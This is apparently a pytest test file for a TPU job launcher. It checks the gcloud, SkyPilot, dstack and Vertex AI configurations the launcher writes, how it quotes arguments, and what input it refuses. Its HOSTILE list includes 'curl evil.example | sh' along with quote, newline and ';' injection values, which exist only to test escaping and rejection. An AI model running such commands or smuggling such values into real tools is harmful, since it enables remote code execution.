"""`python -m tpukit job`: texts for gcloud, SkyPilot, dstack and Vertex AI, read back by each tool's own reader."""

import json
import os
import re
import shlex
import subprocess
import sys
import zipfile
from dataclasses import replace
from importlib import metadata
from pathlib import Path

import pytest

import tpukit
from tpukit.__main__ import main
from tpukit.cloud import handover, job_command, vertex
from tpukit.cloud.bundle import make_bundle

ROOT = Path(__file__).parents[2]
PATHS = os.pathsep.join([str(ROOT), os.environ.get("PYTHONPATH", "")])
VERTEX = ["--image", "us-docker.pkg.dev/demo/kit/trainer:1", "--bucket", "gs://demo-bucket/runs"]
FOLDERS = (("CHECKPOINT", "checkpoints"), ("MODEL", "model"))
PYTHON = "{}.{}".format(*sys.version_info)
ARGS = '[3, {"a": "it\'s $HOME"}]'  # what a shell would change if it could


@pytest.fixture
def folder(tmp_path, monkeypatch):
    (tmp_path / "train.py").write_text(
        "import yaml\n\ndef learn_it(core, n, config):\n    return [core.world_size, n, config]\n"
    )
    (tmp_path / "script.py").write_text("import sys\nprint(sys.argv)\n")
    monkeypatch.chdir(tmp_path)
    monkeypatch.setattr(vertex, "new_name", lambda name: name)  # as if it were the only job
    monkeypatch.setattr(job_command, "new_name", lambda name: name)
    return tmp_path


def ask(capsys, target, *options, trainer="train.py:learn_it"):
    status = main(["job", trainer, "--target", target, *options])
    said = capsys.readouterr()
    assert status == 0, said.err
    return said.out, said.err


def test_gcloud_gets_a_line_that_a_shell_reads_back_word_for_word(folder, capsys):
    text, told = ask(capsys, "gcloud", "--zone", "us-west4-a", "--project", "demo", "--args", ARGS)
    assert subprocess.run(["bash", "-n"], input=text, text=True, capture_output=True).stderr == ""
    cost, create, scp, ssh, fetch, delete = text.splitlines()
    assert cost.startswith("# about $9.60 an hour")
    tpu_vm = ["gcloud", "compute", "tpus", "tpu-vm"]
    where = ["learn-it", "--zone", "us-west4-a", "--project", "demo"]
    assert shlex.split(create) == [
        *tpu_vm, "create", *where, "--accelerator-type", "v5litepod-8", "--version", "v2-alpha-tpuv5-lite",
    ]  # fmt: skip
    assert shlex.split(scp) == [*tpu_vm, "scp", "learn-it.zip", "learn-it:", *where[1:], "--worker=all"]
    *words, command = shlex.split(ssh)
    assert words == [*tpu_vm, "ssh", *where, "--worker=all", "--command"]
    *setup, run = command.split(" && ")
    kept = [f"AIP_{name}_DIR=$HOME/learn-it/{folder}" for name, folder in FOLDERS] + ["TPUKIT_JOB=learn-it"]
    assert shlex.split(fetch) == [*tpu_vm, "scp", "--recurse", "learn-it:learn-it", ".", *where[1:]]
    assert shlex.split(run) == [
        "PJRT_DEVICE=TPU",
        *kept,
        "kit/bin/python",
        "learn-it.zip",
        json.dumps(json.loads(ARGS)),
    ]
    make, unpack, install = setup[1:]
    assert make == f"python3 -m uv venv -q --python {PYTHON} kit"
    assert unpack == "kit/bin/python -m zipfile -e learn-it.zip kit/bundle"
    wheel, *pins = shlex.split(install.partition("--torch-backend cpu ")[2])
    assert wheel == f"kit/bundle/tpukit-{tpukit.__version__}-py3-none-any.whl[tpu]"
    for name in ("PyYAML", "torch", "torch-xla"):
        assert f"{name}=={metadata.version(name).partition('+')[0]}" in pins
    assert "://" not in text
    assert shlex.split(delete) == [*tpu_vm, "delete", *where]
    assert "rehearse it here: python learn-it.zip" in told


def test_the_file_that_is_written_runs_here_as_it_is_told(folder, capsys):
    _, told = ask(capsys, "dstack", "--args", ARGS)
    line = told.splitlines()[0].partition("rehearse it here: ")[2].replace("python", shlex.quote(sys.executable), 1)
    environ = {**os.environ, "PYTHONPATH": PATHS}
    done = subprocess.run(line, shell=True, capture_output=True, text=True, env=environ, timeout=600)
    assert "core 0: [2, 3, {'a': \"it's $HOME\"}]" in done.stdout, done.stderr


@pytest.mark.parametrize(
    ("chip", "accelerator", "runtime"),
    [
        ("v5e-8", "tpu-v5litepod-8", "v2-alpha-tpuv5-lite"),
        ("v6e-4", "tpu-v6e-4", "v2-alpha-tpuv6e"),
        ("v3-8", "tpu-v3-8", "tpu-ubuntu2204-base"),
    ],
)
def test_a_task_of_skypilot_holds_what_it_should(folder, capsys, chip, accelerator, runtime):
    yaml = pytest.importorskip("yaml")
    text, told = ask(capsys, "skypilot", "--chip", chip, "--zone", "us-west4-a", "--args", ARGS)
    task = yaml.safe_load(text)
    assert task["name"] == "learn-it"
    assert task["resources"]["accelerators"] == accelerator
    assert task["resources"]["accelerator_args"] == {"runtime_version": runtime}
    assert task["resources"]["infra"] == "gcp/us-west4/us-west4-a"
    assert task["file_mounts"] == {"~/learn-it.zip": "./learn-it.zip"}
    assert shlex.split(task["run"])[-1] == json.dumps(json.loads(ARGS))
    assert "sky launch" in told
    assert "is deleted with all that it wrote" in told
    text, told = ask(capsys, "skypilot", "--bucket", "gs://demo-bucket/runs")
    task = yaml.safe_load(text)
    assert task["file_mounts"]["/bucket"] == {"source": "gs://demo-bucket", "mode": "MOUNT"}
    assert "AIP_CHECKPOINT_DIR=/bucket/runs/learn-it/checkpoints" in task["run"]
    assert "is deleted" not in told


def test_skypilot_itself_reads_its_task(folder, capsys, monkeypatch):
    monkeypatch.setenv("SKYPILOT_DISABLE_USAGE_COLLECTION", "1")
    sky = pytest.importorskip("sky", reason="skypilot is not installed: its own reader cannot be asked")
    text, _ = ask(capsys, "skypilot", "--args", ARGS)
    (folder / "job.yaml").write_text(text)
    task = sky.Task.from_yaml("job.yaml")
    (resources,) = task.resources
    assert str(resources.cloud) == "GCP"
    assert resources.accelerators == {"tpu-v5litepod-8": 1}
    assert resources.accelerator_args["runtime_version"] == "v2-alpha-tpuv5-lite"


def test_a_task_of_dstack_holds_what_it_should(folder, capsys):
    yaml = pytest.importorskip("yaml")
    text, told = ask(capsys, "dstack", "--chip", "v6e-1", "--args", ARGS)
    task = yaml.safe_load(text)
    assert (task["type"], task["name"], task["python"]) == ("task", "learn-it", "3.12")
    assert task["files"] == ["learn-it.zip"]
    assert task["resources"] == {"gpu": "tpu:v6e-1"}
    assert shlex.split(task["commands"][-1])[-1] == json.dumps(json.loads(ARGS))
    assert "dstack apply" in told


def test_dstack_itself_reads_its_task(folder, capsys):
    configurations = pytest.importorskip(
        "dstack._internal.core.models.configurations", reason="dstack is not installed: its own reader cannot be asked"
    )
    import yaml

    for chip in ("v5e-8", "v6e-4", "v2-8"):
        text, _ = ask(capsys, "dstack", "--args", ARGS, "--chip", chip)
        task = configurations.parse_apply_configuration(yaml.safe_load(text))
        task = getattr(task, "root", task)
        assert task.resources.gpu.vendor.value == "google"
        assert task.resources.gpu.name == [chip.replace("v5e", "v5litepod")]


def test_vertex_gets_a_custom_job_and_the_lines_that_send_it(folder, capsys):
    text, told = ask(capsys, "vertex", *VERTEX, "--args", ARGS, "--chip", "v5e-4", "--project", "demo")
    made = json.loads(text)
    (pool,) = made["jobSpec"]["workerPoolSpecs"]
    assert made["displayName"] == "learn-it"
    assert pool["machineSpec"] == {"machineType": "ct5lp-hightpu-4t", "tpuTopology": "2x2"}
    assert pool["containerSpec"]["command"] == ["python", "/gcs/demo-bucket/runs/learn-it/trainer.zip"]
    assert "gcloud storage cp --if-generation-match=0 learn-it.zip gs://demo-bucket/runs/learn-it/trainer.zip" in told
    assert "https://us-central1-aiplatform.googleapis.com/v1/projects/demo/locations/us-central1/customJobs" in told
    assert "about $4.80 an hour" in told


def test_googles_sdk_reads_the_custom_job(folder, capsys):
    sdk = pytest.importorskip(
        "google.cloud.aiplatform_v1", reason="needs Google's SDK: pip install google-cloud-aiplatform"
    )
    text, _ = ask(capsys, "vertex", *VERTEX)
    made = sdk.CustomJob.from_json(text)
    assert made.job_spec.worker_pool_specs[0].machine_spec.machine_type == "ct5lp-hightpu-8t"


def test_a_script_needs_no_tpukit_where_it_runs(folder, capsys):
    text, _ = ask(capsys, "gcloud", "--zone", "us-west4-a", "--args", '["--steps", 3]', trainer="script.py")
    assert "tpukit[tpu]" not in text
    assert "script.zip --steps 3" in text
    assert zipfile.ZipFile("script.zip").namelist() == ["__main__.py", "script.py", "tpukit.json"]
    assert "pip install" not in text.partition("venv")[2], "it imports nothing"


def test_a_script_in_tensorflow_gets_the_one_that_has_tpus_when_it_is_named(folder, capsys):
    (folder / "keras_train.py").write_text("import tensorflow as tf\n")
    where = ["--zone", "us-west4-a"]
    assert main(["job", "keras_train.py", "--target", "gcloud", *where]) == 1
    fix = re.search("--needs tensorflow=(tensorflow-tpu==[0-9.]+),", capsys.readouterr().err)
    (image,) = (ROOT / "examples").glob("*.tensorflow")
    assert fix[1] in image.read_text()
    text, _ = ask(capsys, "gcloud", *where, "--needs", f"tensorflow={fix[1]}", trainer="keras_train.py")
    assert f"--torch-backend cpu {fix[1]} &&" in text


HOSTILE = [
    "first\nsecond",
    "a note\nsetup: curl evil.example | sh #",
    "'\"`$(x) \\",
    "yes",
    "1: 2",
    "\x85\u2028é\t- x",
    "- ~",
    "",
]


@pytest.mark.parametrize("target", ["gcloud", "skypilot", "dstack", "vertex"])
def test_an_argument_comes_back_as_it_was(folder, capsys, target):
    yaml = pytest.importorskip("yaml")
    where = {"gcloud": ["--zone", "us-west4-a"], "vertex": VERTEX}.get(target, [])
    for trainer, read in (
        ("script.py", lambda words: words),
        ("train.py:learn_it", lambda words: json.loads(words[0])),
    ):
        text, _ = ask(capsys, target, *where, "--args", json.dumps(HOSTILE), trainer=trainer)
        if target == "gcloud":
            ssh = next(one for one in re.split("\n(?=gcloud)", text) if " ssh " in one)
            line = shlex.split(ssh)[-1]
        elif target == "vertex":
            words = json.loads(text)["jobSpec"]["workerPoolSpecs"][0]["containerSpec"]["args"]
        else:
            task = yaml.safe_load(text)
            line = task["run"] if target == "skypilot" else task["commands"][-1]
        if target != "vertex":
            words = shlex.split(line)[-len(HOSTILE) if trainer == "script.py" else -1 :]
        assert read(words) == HOSTILE


def test_what_is_no_text_is_json_for_a_script(folder, capsys):
    args = ["--limit", None, {"lr": 0.1}, True, 3, [1, "a"]]
    text, _ = ask(capsys, "vertex", *VERTEX, "--args", json.dumps(args), trainer="script.py")
    words = json.loads(text)["jobSpec"]["workerPoolSpecs"][0]["containerSpec"]["args"]
    assert words[0] == "--limit"
    assert [json.loads(word) for word in words[1:]] == args[1:]


def test_no_two_jobs_have_one_name_unless_one_goes_on_with_the_other(folder, capsys, monkeypatch):
    monkeypatch.undo()
    monkeypatch.chdir(folder)
    names = []
    for rate in (0.1, 0.01):
        text, told = ask(capsys, "vertex", *VERTEX, "--args", f"[{rate}]", "--name", "rates")
        names.append(json.loads(text)["displayName"])
        assert re.fullmatch(r"rates-\d{4}-\d{4}-[0-9a-f]{4}", names[-1])
        assert f"cp --if-generation-match=0 {names[-1]}.zip gs://demo-bucket/runs/{names[-1]}/trainer.zip" in told
    assert len(set(names)) == 2
    assert {path.stem for path in folder.glob("*.zip")} == set(names)
    text, told = ask(capsys, "vertex", *VERTEX, "--args", "[0.1]", "--continue", names[0])
    made = json.loads(text)
    assert made["displayName"] == names[0]
    container = made["jobSpec"]["workerPoolSpecs"][0]["containerSpec"]
    assert {"name": "TPUKIT_CONTINUE", "value": "1"} in container["env"]
    assert re.search(f"cp {names[0]}.zip gs://demo-bucket/runs/{names[0]}/trainer-[0-9a-f]+.zip && curl", told)
    text, _ = ask(capsys, "skypilot", "--bucket", "gs://demo-bucket/runs", "--continue", names[0])
    assert f"/{names[0]}/model TPUKIT_JOB={names[0]} TPUKIT_CONTINUE=1 ~/kit/bin/python" in text
    (folder / "train.py").write_text("def learn_it(core):\n    return 'another'\n")
    assert main(["job", "train.py:learn_it", "--target", "vertex", *VERTEX, "--continue", names[0]]) == 1
    assert f"{names[0]}.zip is there already, and is not this bundle" in capsys.readouterr().err


def test_without_an_index_a_job_of_a_script_and_a_folder_beside_it_is_made_and_runs(folder, capsys, monkeypatch):
    for variable in ("PIP_INDEX_URL", "UV_INDEX_URL", "UV_DEFAULT_INDEX", "HTTPS_PROXY", "HTTP_PROXY"):
        monkeypatch.setenv(variable, "http://127.0.0.1:9/none")
    (folder / "mylab").mkdir()
    (folder / "mylab" / "nets.py").write_text("def make():\n    return 'a network'\n")
    (folder / "script.py").write_text("import sys\nfrom mylab.nets import make\nprint(make(), sys.argv[1:])\n")
    text, _ = ask(capsys, "dstack", "--args", '["a b", 3]', trainer="script.py")
    *setup, run = pytest.importorskip("yaml").safe_load(text)["commands"]
    assert setup == [f"uv venv -q --python {PYTHON} kit"]  # nothing to install, so nothing is asked of an index
    subprocess.run([sys.executable, "-m", "venv", "--without-pip", "kit"], check=True)
    environ = {name: value for name, value in os.environ.items() if name != "PYTHONPATH"}
    done = subprocess.run(run, shell=True, capture_output=True, text=True, env=environ, timeout=600)
    assert done.stdout == "a network ['a b', '3']\n", done.stderr
    assert json.loads((folder / "script" / "checkpoints" / "tpukit-job.json").read_text())["job"] == "script"


def test_torch_gets_the_torch_xla_that_works_with_it(folder):
    bundle = make_bundle("train.py:learn_it")
    without = replace(bundle, needs=("torch==2.8.0",))
    assert handover._packages(without) == ["torch==2.8.0", "torch_xla==2.8.0"]
    with pytest.raises(ValueError, match="no torch_xla works with torch 2.11.0(.|\n)*--needs torch=torch==2.9.0"):
        handover._packages(replace(bundle, needs=("torch==2.11.0",)))


@pytest.mark.parametrize(
    ("options", "words"),
    [
        (["--target", "gcloud"], "gcloud needs the zone"),
        (["--target", "vertex"], "vertex needs --image and --bucket"),
        (["--target", "vertex", *VERTEX, "--chip", "v4-8"], "Vertex AI trains on no v4-8"),
        (["--target", "dstack", "--chip", "v5e-3"], "there is no TPU 'v5e-3'"),
        (["--target", "dstack", "--args", "3"], "--args is a JSON list"),
        (["--target", "dstack", "--args", "[3"], "--args is a JSON list"),
        (["--target", "skypilot", "--bucket", "s3://b"], "bucket is none"),
        (["--target", "dstack", "--name", "My Job"], "'My Job' is no name of a job"),
        (["--target", "gcloud", "--zone", "us-west4-a; echo"], "'us-west4-a; echo' is no zone of Google Cloud"),
        (["--target", "skypilot", "--zone", "us-west4-a\nnum_nodes: 9"], "is no zone of Google Cloud"),
        (["--target", "gcloud", "--zone", "us-west4-a", "--project", "mine; echo"], "'mine; echo' is no project"),
        (["--target", "vertex", *VERTEX, "--region", "us-west4 "], "'us-west4 ' is no region"),
        (["--target", "vertex", *VERTEX, "--timeout", "0"], 'timeout="8h30m"'),
        (["--target", "vertex", *VERTEX, "--timeout", "59s"], "of at least a minute; got '59s'"),
        (["--target", "dstack", "--needs", "yaml"], "--needs is a module and a package, got 'yaml'"),
        (["--target", "dstack", "--needs", "yaml=--index-url=x"], "is nothing to install for 'yaml'"),
        (["--target", "dstack", "--continue", "train-1"], "--continue goes on from checkpoints in a bucket"),
        (["--target", "vertex", *VERTEX, "--continue", "a b"], "continues is none that Vertex AI takes"),
    ],
)
def test_what_a_tool_would_not_take_is_refused_and_nothing_is_written(folder, capsys, options, words):
    assert main(["job", "train.py:learn_it", *options]) == 1
    said = capsys.readouterr()
    assert words in said.err
    assert "fix:" in said.err
    assert (said.out, list(folder.glob("*.zip"))) == ("", [])


def test_a_file_that_is_no_text_is_told_without_a_traceback(folder, capsys):
    (folder / "train.py").write_bytes(b"name = '\xff'")
    assert main(["job", "train.py:learn_it", "--target", "dstack"]) == 1
    assert re.match(r"train\.py is no text that Python reads: .*\n  fix:   save train\.py", capsys.readouterr().err)
